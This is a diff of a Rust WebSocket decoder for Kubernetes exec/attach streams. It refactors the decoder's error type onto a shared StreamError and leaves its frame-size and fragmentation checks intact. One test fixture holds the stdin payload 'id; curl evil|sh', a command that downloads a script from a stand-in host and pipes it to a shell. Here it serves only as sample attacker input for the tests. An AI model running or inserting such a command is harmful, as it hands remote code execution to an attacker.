@@ -3,6 +3,8 @@
 //! byte is its channel. Read incrementally, whatever the chunking: a
 //! recorder sees a TCP stream, not frames.
 
+use crate::framing::{Protocol, StreamError};
+
 /// The channels of a `kubectl exec` / `attach` stream.
 pub const STDIN: u8 = 0;
 pub const STDOUT: u8 = 1;
@@ -18,21 +20,10 @@ pub const CLOSE: u8 = 255;
 /// stream rather than grow without bound.
 pub const MAX_MESSAGE: usize = 16 << 20;
 
-/// Why a stream could not be read as WebSocket frames.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub enum Error {
-    TooLarge,
-    /// A fragmented message or control frame, or an unknown opcode.
-    Protocol(&'static str),
-}
+const TOO_LARGE: StreamError = StreamError::TooLarge(Protocol::WebSocket);
 
-impl std::fmt::Display for Error {
-    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
-        match self {
-            Error::TooLarge => write!(f, "a WebSocket message over {MAX_MESSAGE} bytes"),
-            Error::Protocol(what) => write!(f, "not the WebSocket protocol: {what}"),
-        }
-    }
+fn bad(what: &'static str) -> StreamError {
+    StreamError::Malformed(Protocol::WebSocket, what)
 }
 
 /// One message: its channel and its bytes.
@@ -52,7 +43,7 @@ pub struct Decoder {
 impl Decoder {
     /// The messages `bytes` completes, in order. Control frames (ping,
     /// pong) are skipped; after a close frame nothing more is read.
-    pub fn push(&mut self, bytes: &[u8]) -> Result<Vec<Message>, Error> {
+    pub fn push(&mut self, bytes: &[u8]) -> Result<Vec<Message>, StreamError> {
         if self.closed {
             return Ok(Vec::new());
         }
@@ -68,7 +59,7 @@ impl Decoder {
                 }
                 0x9 | 0xA => {
                     if !fin {
-                        return Err(Error::Protocol("a fragmented control frame"));
+                        return Err(bad("a fragmented control frame"));
                     }
                 }
                 // Kubernetes' servers read each frame as one message, its
@@ -76,12 +67,12 @@ impl Decoder {
                 // one way here and another there. Kubectl never fragments:
                 // a stream that does ends.
                 0x1 | 0x2 if fin => out.extend(message(payload)),
-                0x0..=0x2 => return Err(Error::Protocol("a fragmented message")),
-                _ => return Err(Error::Protocol("an unknown opcode")),
+                0x0..=0x2 => return Err(bad("a fragmented message")),
+                _ => return Err(bad("an unknown opcode")),
             }
         }
         if self.buf.len() > MAX_MESSAGE + 14 {
-            return Err(Error::TooLarge);
+            return Err(TOO_LARGE);
         }
         Ok(out)
     }
@@ -99,7 +90,7 @@ fn message(mut data: Vec<u8>) -> Option<Message> {
 type Frame = (bool, u8, Vec<u8>, usize);
 
 /// The first whole frame in `b`, or none yet.
-fn frame(b: &[u8]) -> Result<Option<Frame>, Error> {
+fn frame(b: &[u8]) -> Result<Option<Frame>, StreamError> {
     if b.len() < 2 {
         return Ok(None);
     }
@@ -119,9 +110,9 @@ fn frame(b: &[u8]) -> Result<Option<Frame>, Error> {
         }
         n => (u64::from(n), 2),
     };
-    let len = usize::try_from(len).map_err(|_| Error::TooLarge)?;
+    let len = usize::try_from(len).map_err(|_| TOO_LARGE)?;
     if len > MAX_MESSAGE {
-        return Err(Error::TooLarge);
+        return Err(TOO_LARGE);
     }
     let mask = if masked {
         let Some(k) = b.get(at..at + 4) else { return Ok(None) };
@@ -207,17 +198,14 @@ mod tests {
             let mut d = Decoder::default();
             assert_eq!(
                 d.push(&encode(fin, op, b"\x00id; curl evil|sh\r", None)),
-                Err(Error::Protocol("a fragmented message"))
+                Err(bad("a fragmented message"))
             );
         }
         let mut d = Decoder::default();
         let mut huge = vec![0x82, 127];
         huge.extend_from_slice(&(u64::MAX).to_be_bytes());
-        assert_eq!(d.push(&huge), Err(Error::TooLarge));
+        assert_eq!(d.push(&huge), Err(TOO_LARGE));
         let mut d = Decoder::default();
-        assert_eq!(
-            d.push(&encode(true, 0x3, b"", None)),
-            Err(Error::Protocol("an unknown opcode"))
-        );
+        assert_eq!(d.push(&encode(true, 0x3, b"", None)), Err(bad("an unknown opcode")));
     }
 }
